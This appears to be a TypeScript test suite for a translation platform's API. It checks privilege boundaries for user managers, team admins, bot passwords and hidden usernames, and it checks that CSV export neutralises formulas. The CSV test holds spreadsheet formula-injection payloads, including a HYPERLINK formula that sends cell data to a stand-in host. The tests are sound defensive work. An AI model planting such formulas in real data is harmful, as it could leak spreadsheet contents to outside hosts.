// Nobody can exceed their permissions: not by managing accounts or a team, not with a bot password, not past a hidden
// name.
import assert from 'node:assert/strict'
import { before, test } from 'node:test'
import { createBotPassword, findBotPassword } from '#accounts/bot-passwords.ts'
import { onEachEngine } from '#store/testing.ts'
import { testCatalogue } from '../catalogue/testing.ts'
import { type TestApi, testApi } from './testing.ts'

onEachEngine('who may do how much', open => {
  let api: TestApi
  const keys: Record<string, string> = {}
  const ids: Record<string, number> = {}
  const send = (who: string, method: string, path: string, body?: unknown) =>
    api.send(method, path, { key: keys[who] ?? '', ...(body !== undefined && { body }) })
  const ok = async (who: string, method: string, path: string, body?: unknown) => {
    const answer = await send(who, method, path, body)
    assert.ok(answer.status < 300, `${method} ${path}: ${answer.text}`)
    return answer.json
  }
  const status = async (who: string, method: string, path: string, body?: unknown) =>
    (await send(who, method, path, body)).status
  let users: { id: number; name: string }[]
  const team = (name: string) => users.find(each => each.name === name)!.id

  before(async () => {
    api = await testApi(await open())
    for (const name of ['Boss', 'Clerk', 'Anna', 'Berta']) {
      const { account, key } = await api.user(name, { superuser: name === 'Boss' })
      ;[keys[name], ids[name]] = [key, account.id]
    }
    await testCatalogue(api.services)
    const role = await ok('Boss', 'POST', '/api/roles/', { name: 'Clerks', permissions: ['user.edit', 'user.view'] })
    const clerks = await ok('Boss', 'POST', '/api/groups/', {
      name: 'Clerks',
      project_selection: 0,
      language_selection: 1,
    })
    await ok('Boss', 'POST', `/api/groups/${clerks.id}/roles/`, { role_id: role.id })
    await ok('Boss', 'POST', '/api/users/Clerk/groups/', { group_id: clerks.id })
    users = (await ok('Boss', 'GET', '/api/groups/?page_size=100')).results
  })

  test('user managers cannot grant superuser status', async () => {
    for (const name of ['Clerk', 'Anna'])
      assert.equal(await status('Clerk', 'PATCH', `/api/users/${name}/`, { is_superuser: true }), 403)
    const fresh = { username: 'Fresh', full_name: 'F', email: 'f@example.org' }
    assert.equal(await status('Clerk', 'POST', '/api/users/', { ...fresh, is_superuser: true }), 403)
    await ok('Clerk', 'POST', '/api/users/', fresh)
    for (const name of ['Clerk', 'Anna'])
      assert.equal(await status('Clerk', 'POST', `/api/users/${name}/groups/`, { group_id: team('Managers') }), 403)
    await ok('Clerk', 'POST', '/api/users/Anna/groups/', { group_id: team('Clerks') })
    await ok('Clerk', 'DELETE', '/api/users/Anna/groups/', { group_id: team('Clerks') })
    for (const change of [{ is_superuser: false }, { is_active: false }, { email: 'clerk@example.org' }])
      assert.equal(await status('Clerk', 'PATCH', '/api/users/Boss/', change), 403)
    assert.equal(await status('Clerk', 'DELETE', '/api/users/Boss/'), 403)
    assert.equal((await ok('Boss', 'GET', '/api/users/Boss/')).is_superuser, true)
  })

  test('user managers cannot change the email address of users with more permissions', async () => {
    await ok('Clerk', 'PATCH', '/api/users/Anna/', { email: 'anna@example.org' })
    await ok('Boss', 'POST', '/api/users/Berta/groups/', { group_id: team('Managers') })
    assert.equal(await status('Clerk', 'PATCH', '/api/users/Berta/', { email: 'clerk@example.org' }), 403)
    await ok('Clerk', 'PATCH', '/api/users/Berta/', { full_name: 'Berta B.' })
  })

  test('team administrators cannot widen the scope of a team', async () => {
    const made = await ok('Boss', 'POST', '/api/groups/', {
      name: 'Czechs',
      project_selection: 0,
      language_selection: 0,
    })
    const path = `/api/groups/${made.id}/`
    await ok('Boss', 'POST', `${path}admins/`, { user_id: ids.Anna })
    await ok('Anna', 'PATCH', path, { name: 'The Czechs', language_selection: 0 })
    for (const wish of [{ language_selection: 1 }, { project_selection: 1 }])
      assert.equal(await status('Anna', 'PATCH', path, wish), 403)
    assert.equal(await status('Anna', 'PUT', path, { name: 'X', language_selection: 1 }), 403)
    assert.equal(await status('Anna', 'POST', `${path}languages/`, { language_code: 'de' }), 403)
    await ok('Boss', 'POST', `${path}languages/`, { language_code: 'de' })
  })

  test('a bot password reads only public data and cannot write', async () => {
    const { services } = api
    const account = (await services.accounts.byName(services.store.read, 'Boss'))!
    await services.store.transaction(tx => createBotPassword(tx, account.id, 'tool', ['basic']))
    const botPassword = await findBotPassword(services.store.read, account.id, 'tool')
    const { setCookies } = await services.callers.logIn(services.callers.anonymous('127.0.0.1'), account, {
      botPassword,
    })
    const headers = { cookie: setCookies[0]!.split(';')[0]! }
    await testCatalogue(services, { slug: 'inner', access: 100 })
    assert.equal((await api.send('GET', '/api/users/', { headers })).json.count, 0)
    assert.equal((await api.send('GET', '/api/users/Boss/', { headers })).status, 404)
    for (const path of ['/api/projects/inner/', '/projects/inner/'])
      assert.equal((await api.send('GET', path, { headers })).status, 404, path)
    const refused = await api.send('POST', '/api/projects/', {
      headers,
      body: { name: 'x', slug: 'x', web: 'http://x/' },
    })
    assert.deepEqual(
      [refused.status, refused.json.detail],
      [403, 'Bot passwords work only for the wiki. Use an API key here.'],
    )
  })

  test('a hidden username is visible only to users who can hide names', async () => {
    const { store } = api.services
    const { account, key } = await api.user('Qqoffence')
    const unit = (await ok('Boss', 'GET', '/api/translations/hello/main/cs/units/')).results[0]
    await api.send('POST', `/api/units/${unit.id}/comments/`, { key, body: { scope: 'translation', comment: 'Hm' } })
    await api.send('POST', `/api/units/${unit.id}/suggestions/`, { key, body: { target: ['Nazdar'] } })
    await api.send('PATCH', `/api/units/${unit.id}/`, { key, body: { target: ['Ahoj'], state: 20 } })
    await ok('Boss', 'POST', `/api/groups/${team('Clerks')}/admins/`, { user_id: account.id })
    const paths = [
      '/api/users/?username=Qqo',
      '/api/users/Qqoffence/',
      '/api/users/Qqoffence/statistics/',
      '/api/search/?q=Qqo',
      `/api/units/${unit.id}/comments/`,
      `/api/units/${unit.id}/suggestions/`,
      '/api/changes/',
      '/api/translations/hello/main/cs/',
      '/api/translations/hello/main/cs/statistics/',
      `/api/groups/${team('Clerks')}/`,
      '/api/projects/hello/credits/?start=2020-01-01&end=2030-01-01',
    ]
    const shows = async (who: string, path: string) =>
      /qqoffence/i.test((await send(who, 'GET', path)).text.replaceAll(path.slice(5), ''))
    for (const path of paths.slice(3, -1)) assert.equal(await shows('Clerk', path), true, `${path} before`)
    await store.transaction(async tx => {
      const actor = await tx.insertInto('actor').values({ name: 'Oversight' }).returning('id').executeTakeFirstOrThrow()
      const summary = await tx
        .insertInto('summary')
        .values({ text: 'An offence' })
        .returning('id')
        .executeTakeFirstOrThrow()
      const row = { address: account.name, account_id: account.id, by_actor_id: actor.id, summary_id: summary.id }
      await tx
        .insertInto('block')
        .values({ ...row, timestamp: 1, expires_at: null, hide_name: 1 })
        .execute()
    })
    for (const path of paths) assert.equal(await shows('Clerk', path), false, path)
    assert.equal(await status('Clerk', 'GET', '/api/users/Qqoffence/'), 404)
    assert.equal(await shows('Boss', '/api/users/?username=Qqo'), true)
    assert.equal((await api.send('GET', '/api/users/Qqoffence/', { key })).status, 200, 'oneself')
  })

  test('CSV output contains no spreadsheet formulas', async () => {
    const formula = '=HYPERLINK("http://example.org/?"&A1)'
    await ok('Boss', 'PATCH', '/api/users/Anna/', { full_name: formula })
    const { text } = await send('Boss', 'GET', '/api/users/?format=csv&username=Anna')
    assert.ok(text.includes(`"'=HYPERLINK(""http`), text)
    for (const begin of ['+', '-', '@']) {
      await ok('Boss', 'PATCH', '/api/users/Anna/', { full_name: `${begin}1+cmd` })
      assert.ok((await send('Boss', 'GET', '/api/users/?format=csv&username=Anna')).text.includes(`'${begin}1+cmd`))
    }
  })
})
